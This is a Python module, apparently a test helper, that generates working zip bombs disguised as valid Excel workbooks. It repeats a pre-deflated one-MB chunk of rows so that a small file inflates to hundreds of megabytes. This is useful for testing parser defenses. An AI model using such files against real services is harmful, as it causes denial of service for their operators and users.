"""Zip bombs dressed as workbooks: real, valid zip files whose sheet inflates to hundreds of MB.

The sheet is deflated once per MB and repeated: after a full flush the compressor starts afresh,
so every MB compresses to the same bytes and the stream can be written without compressing the
whole sheet (a 512 MB sheet is built in well under a second)."""

from __future__ import annotations

import struct
import zlib

MB = 1024 * 1024
CONTENT_TYPES = (
    b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
    b'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-'
    b'package.relationships+xml"/><Override PartName="/xl/workbook.xml" ContentType="application/'
    b'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/'
    b'worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.'
    b'spreadsheetml.worksheet+xml"/></Types>')
RELS = (
    b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
    b'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
    b'officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>')
WORKBOOK = (
    b'<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/'
    b'main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>'
    b'<sheet name="Blad1" sheetId="1" r:id="rId1"/></sheets></workbook>')
WORKBOOK_RELS = (
    b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
    b'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
    b'officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>')
SHEET_HEAD = (b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/'
              b'spreadsheetml/2006/main"><sheetData>')
SHEET_TAIL = b"</sheetData></worksheet>"
ROW = b'<row><c t="inlineStr"><is><t>G1</t></is></c></row>'


def _deflate(data: bytes) -> bytes:
    co = zlib.compressobj(9, zlib.DEFLATED, -15)
    return co.compress(data) + co.flush()


def _repeated_sheet(megabytes: int) -> tuple[bytes, int, int]:
    """(raw deflate stream, crc32, size) of SHEET_HEAD + ``megabytes`` MB of rows + SHEET_TAIL."""
    chunk = ROW * (MB // len(ROW))
    co = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = co.compress(SHEET_HEAD) + co.flush(zlib.Z_FULL_FLUSH)
    segment = co.compress(chunk) + co.flush(zlib.Z_FULL_FLUSH)
    tail = co.compress(SHEET_TAIL) + co.flush()
    crc = zlib.crc32(SHEET_HEAD)
    for _ in range(megabytes):
        crc = zlib.crc32(chunk, crc)
    crc = zlib.crc32(SHEET_TAIL, crc)
    stream = head + segment * megabytes + tail
    size = len(SHEET_HEAD) + len(chunk) * megabytes + len(SHEET_TAIL)
    # the stream really inflates to the sheet: check its start and its end
    d = zlib.decompressobj(-15)
    start = d.decompress(head + segment * 2, len(SHEET_HEAD) + 2 * len(chunk))
    assert start == SHEET_HEAD + chunk * 2
    return stream, crc, size


def _zip(members: list[tuple[str, bytes, int, int]]) -> bytes:
    """A zip file of (name, raw deflate stream, crc32, uncompressed size) members."""
    out, central = bytearray(), bytearray()
    for name, data, crc, size in members:
        encoded = name.encode()
        offset = len(out)
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, crc, len(data), size,
                           len(encoded), 0) + encoded + data
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0x21, crc,
                               len(data), size, len(encoded), 0, 0, 0, 0, 0, offset) + encoded
    cd_offset = len(out)
    out += central
    out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members), len(central),
                       cd_offset, 0)
    return bytes(out)


def zip_bomb(megabytes: int = 512) -> bytes:
    """A valid .xlsx whose single sheet inflates to ``megabytes`` MB (ratio about 300:1)."""
    small = [(n, _deflate(b), zlib.crc32(b), len(b)) for n, b in (
        ("[Content_Types].xml", CONTENT_TYPES), ("_rels/.rels", RELS),
        ("xl/workbook.xml", WORKBOOK), ("xl/_rels/workbook.xml.rels", WORKBOOK_RELS))]
    sheet, crc, size = _repeated_sheet(megabytes)
    return _zip([*small, ("xl/worksheets/sheet1.xml", sheet, crc, size)])
